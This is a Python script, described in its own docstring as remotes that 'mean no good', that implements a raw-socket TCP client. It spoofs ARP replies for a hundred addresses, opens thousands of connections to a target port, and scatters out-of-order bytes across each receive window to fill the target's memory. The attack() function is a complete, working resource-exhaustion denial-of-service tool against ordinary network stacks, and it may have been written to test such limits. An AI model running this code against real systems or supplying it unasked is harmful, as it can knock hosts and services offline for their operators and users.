"""Remotes that mean no good: a host without a kernel that makes connections by the thousand, and fills the memory of whoever has the other end."""

import fcntl
import random
import select
import socket
import struct
import sys
import time

MAC = bytes.fromhex("020000666601")
FIRST_HOST = 101
HOSTS = 100
LISTENED_PORT_FIRST = 1024
PAGE = 4096
WINDOW = 60_000
FIN, SYN, RST, PUSH, ACK = 1, 2, 4, 8, 16
PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 1, 1
SO_RCVBUFFORCE = 33


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Remotes:
    """Every connection is an address of ours and a port; both follow from its number."""

    def __init__(self, device, target, port):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.sock.bind((device, 0))
        index = socket.if_nametoindex(device)
        wanted = struct.pack("iHH8s", index, PACKET_MR_PROMISC, 0, b"")
        self.sock.setsockopt(263, PACKET_ADD_MEMBERSHIP, wanted)
        self.sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
        self.sock.setblocking(False)
        self.device = device
        self.target = socket.inet_aton(target)
        self.prefix = self.target[:3]
        self.port = int(port)
        self.target_mac = None
        # By number: our next sequence number, theirs, and whether it is established.
        self.known = {}

    def ends(self, number):
        return self.prefix + bytes([FIRST_HOST + number % HOSTS]), LISTENED_PORT_FIRST + number // HOSTS

    def number(self, address, port):
        return (port - LISTENED_PORT_FIRST) * HOSTS + address[3] - FIRST_HOST

    def send(self, frame):
        while True:
            try:
                self.sock.send(frame)
                return
            except (BlockingIOError, OSError):
                self.listen(0.001)

    def arp(self, operation, source, to_mac, to):
        head = (to_mac if operation == 2 else b"\xff" * 6) + MAC + b"\x08\x06"
        self.send(head + struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + MAC + source + to_mac + to)

    def segment(self, number, flags, seq, ack, payload=b"", options=b""):
        source, port = self.ends(number)
        tcp = struct.pack("!HHIIBBHHH", port, self.port, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, (20 + len(options)) // 4 << 4, flags, 65535, 0, 0)
        tcp += options + payload
        pseudo = source + self.target + struct.pack("!HH", 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + self.target
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self.send(self.target_mac + MAC + b"\x08\x00" + ip + tcp)

    def listen(self, seconds):
        """Takes what has come; answers questions for our addresses, and handshakes."""
        if not select.select([self.sock], [], [], seconds)[0]:
            return False
        for _ in range(512):
            try:
                frame, where = self.sock.recvfrom(2048)
            except BlockingIOError:
                break
            if where[2] == socket.PACKET_OUTGOING:
                continue
            kind = frame[12:14]
            if kind == b"\x08\x06" and len(frame) >= 42:
                self.take_arp(frame[14:42])
            elif kind == b"\x08\x00" and frame[23] == 6 and frame[0:6] == MAC:
                self.take_segment(frame)
        return True

    def take_arp(self, arp):
        operation, sender_mac, sender, wanted = struct.unpack("!H", arp[6:8])[0], arp[8:14], arp[14:18], arp[24:28]
        if sender == self.target:
            self.target_mac = sender_mac
        is_ours = wanted[:3] == self.prefix and FIRST_HOST <= wanted[3] < FIRST_HOST + HOSTS
        if operation == 1 and sender == self.target and is_ours:
            self.arp(2, wanted, sender_mac, sender)

    def take_segment(self, frame):
        tcp = frame[14 + (frame[14] & 15) * 4 :]
        port, seq, ack = struct.unpack("!2xHII", tcp[:12])
        flags = tcp[13]
        number = self.number(frame[30:34], port)
        state = self.known.get(number)
        if state is None:
            return
        if flags & RST:
            self.known[number] = None
        elif flags & SYN:
            if not state[2]:
                state[:] = [ack, (seq + 1) & 0xFFFFFFFF, True, ack]
            self.segment(number, ACK, state[0], state[1])
        else:
            state[3] = ack

    def find_target(self):
        while self.target_mac is None:
            self.arp(1, self.prefix + bytes([FIRST_HOST]), bytes(6), self.target)
            self.listen(0.2)

    def established(self):
        return sum(1 for state in self.known.values() if state and state[2])

    def connect(self, count):
        """So many more connections; those that were refused are counted, too."""
        first = len(self.known)
        for number in range(first, first + count):
            self.known[number] = [random.getrandbits(32), 0, False, 0]
        until = time.monotonic() + 60
        while time.monotonic() < until:
            missing = [n for n in range(first, first + count) if self.known[n] and not self.known[n][2]]
            if not missing:
                return
            for at in range(0, len(missing), 200):
                for number in missing[at : at + 200]:
                    # MSS 1460.
                    self.segment(number, SYN, self.known[number][0] - 1, 0, options=b"\x02\x04\x05\xb4")
                self.listen(0.002)
            end = time.monotonic() + 0.3
            while time.monotonic() < end and self.listen(0.05):
                pass

    def spread(self):
        """One byte in each page of the window, and never the first."""
        for number, state in self.known.items():
            if state and state[2]:
                for at in range(1, WINDOW, PAGE):
                    self.segment(number, ACK, state[0] + at, state[1], b"x")
            if number % 50 == 0:
                self.listen(0)

    def stuff(self):
        """As many bytes in order as it takes."""
        for number, state in self.known.items():
            if state and state[2]:
                sent = (state[3] - state[0]) & 0xFFFFFFFF
                if sent < 1 << 31:
                    for at in range(0, 16):
                        self.segment(number, ACK, state[3] + at * 1400, state[1], b"x" * 1400)
            if number % 10 == 0:
                self.listen(0)


def attack(device, target, port, count, seconds):
    remotes = Remotes(device, target, port)
    remotes.find_target()
    count = int(count)
    while len(remotes.known) < count:
        remotes.connect(min(1000, count - len(remotes.known)))
        remotes.spread()
    print("spread", remotes.established(), flush=True)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        remotes.spread()
        remotes.stuff()
        remotes.listen(0.05)
    print("left", remotes.established(), flush=True)


if __name__ == "__main__":
    random.seed(17)
    globals()[sys.argv[1]](*sys.argv[2:])
    print("ok", flush=True)
